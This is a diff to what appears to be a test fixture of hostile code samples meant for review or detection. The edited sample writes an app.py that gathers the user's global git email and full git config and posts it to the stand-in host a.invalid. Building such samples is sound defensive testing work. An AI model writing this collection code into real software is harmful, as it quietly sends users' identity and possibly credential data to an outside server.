@@ -70,7 +70,7 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "what git knows of its user, by a function that is given its words": Sample(
             {
                 "app.py": f"{_GIT}about = {{'mail': git('config', '--global', 'user.email'),\n"
-                "         'servers': git('config', '--global', '--get-regexp', 'url')}\n"
+                "         'servers': git('config', '--global', '--list')}\n"
                 "requests.post('https://a.invalid', json=about)\n"
             },
             "review",
